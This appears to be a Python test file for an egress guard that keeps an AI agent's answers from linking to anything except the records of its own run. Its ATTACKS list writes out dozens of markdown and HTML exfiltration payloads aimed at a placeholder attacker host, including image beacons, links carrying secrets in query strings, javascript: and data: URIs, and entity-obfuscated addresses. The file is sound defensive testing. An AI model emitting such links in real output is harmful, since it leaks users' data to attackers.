"""Links of an answer lead to records of its run; no image, no other address, however it is written."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from agents.egress import guarded, guarded_answer
from agents.record import Answer, Claim, Evidence

PULL = "https://github.com/acme/portal/pull/482"
QUERY = "https://eu.posthog.com/insights/new?insight=TRENDS"
ALLOWED = frozenset({PULL, QUERY})
ATTACKS = (
    "![x](https://evil.example/p.png)",
    f"![x]({PULL})",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "![r]\n\n[r]: <https://evil.example>",
    "[a](https://evil.example/?d=secret)",
    f"[a]({PULL}?d=secret)",
    f"[a]({PULL}(secret))",
    f"[a]({PULL}#secret)",
    "[a](//evil.example/secret)",
    "[a](\n<https://evil.example>\n)",
    "[a]( https://evil.example 'title' )",
    "[a](data:text/html,secret)",
    "[a](javascript:alert(1))",
    "[a](&#104;ttps://evil.example)",
    "[a](https&colon;//evil.example)",
    "[a](https:\\/\\/evil.example)",
    "[a](relative/path?d=secret)",
    "[a][b]\n\n[b]:\n   //evil.example/x\n",
    "> [b]: https://evil.example\n\n[b]",
    "- [b]: https://evil.example\n\n[b][]",
    "<https://evil.example>",
    "<mailto:mallory@evil.example?body=secret>",
    "see https://evil.example/secret",
    "see HTTP://EVIL.EXAMPLE/secret, please",
    "www.evil.example/secret",
    "https\\://evil.example",
    "&#x68;ttps://evil.example",
    f"{PULL})https://evil.example",
    f"{PULL}(secret)",
    f"{PULL}[secret]",
    "**https://evil.example**",
    "[[a](https://evil.example)](https://evil.example)",
    f"[![x](https://evil.example/p.png)]({PULL})",
    "[a\\](https://evil.example)",
    "[^1]: https://evil.example",
    "<img src=https://evil.example/p.png>",
    "<a href='//evil.example'>x</a>",
)


def targets(text: str) -> list[str]:
    """Every address that a page would make a link or an image of, bare ones too."""
    pages = MarkdownIt("commonmark")
    found: list[str] = []

    def walk(tokens: list[Token]) -> None:
        for token in tokens:
            if token.type == "image":
                found.append("image")
            found.extend(str(value) for value in (token.attrs.get("href"), token.attrs.get("src")) if value)
            if token.type == "text":
                # What pages do by themselves with the text that is left once escapes and entities are read.
                found.extend(re.findall(r"(?i)(?<![\w\u2060])(?:https?://|www\.)[^\s<]+", token.content))
            if token.type in ("html_inline", "html_block") and "=" in token.content:
                found.append(token.content)
            walk(token.children or [])

    walk(pages.parse(text))
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_leaves(attack: str) -> None:
    shown = guarded(attack, ALLOWED)
    assert set(targets(shown)) <= ALLOWED, shown
    assert guarded(shown, ALLOWED) == shown


@given(
    st.lists(
        st.sampled_from([*ATTACKS, PULL, "[", "]", "(", ")", "!", "<", ">", ":", " ", "\n", "\\", "`", "&"]), max_size=6
    )
)
def test_nothing_leaves_however_it_is_put_together(parts: list[str]) -> None:
    assert set(targets(guarded("".join(parts), ALLOWED))) <= ALLOWED


@pytest.mark.parametrize(
    "text",
    [
        f"Merged [#482]({PULL}) by ada [1].",
        f"- [#482]({PULL})\n- [the trend]({QUERY})",
        f"See {PULL}.",
        f"({PULL})",
        f"<{PULL}>",
        f"**{PULL}**",
        f"| [#482]({PULL}) | 12 |",
        "Signups fell by 22% [1][2].",
        "`List<String>` and a < b = c",
        "Time 12:30, ratio 3:2, note: fine",
    ],
)
def test_an_honest_answer_stays_as_it_is(text: str) -> None:
    assert guarded(text, ALLOWED) == text


def test_an_answer_links_to_the_records_of_its_run_alone() -> None:
    at = datetime(2026, 11, 18, tzinfo=UTC)
    body = "see https://evil.example"
    item = Evidence(
        id="e1", run="r", step="s", number=1, service="github", verb="pulls.get", title="x", at=at, sha256="",
        content=({"kind": "pull_request", "url": PULL, "body": body, "record": {"url": QUERY}},),
    )  # fmt: skip
    text = f"[a]({PULL}) [b]({QUERY}) [c](https://evil.example)"
    answer = Answer(text=text, claims=(Claim(text=text, kind="fact"),), notes=("![x](https://evil.example)",))
    shown = guarded_answer(answer, [item])
    assert targets(shown.text) == targets(shown.claims[0].text) == [PULL, QUERY]
    assert targets(shown.notes[0]) == []
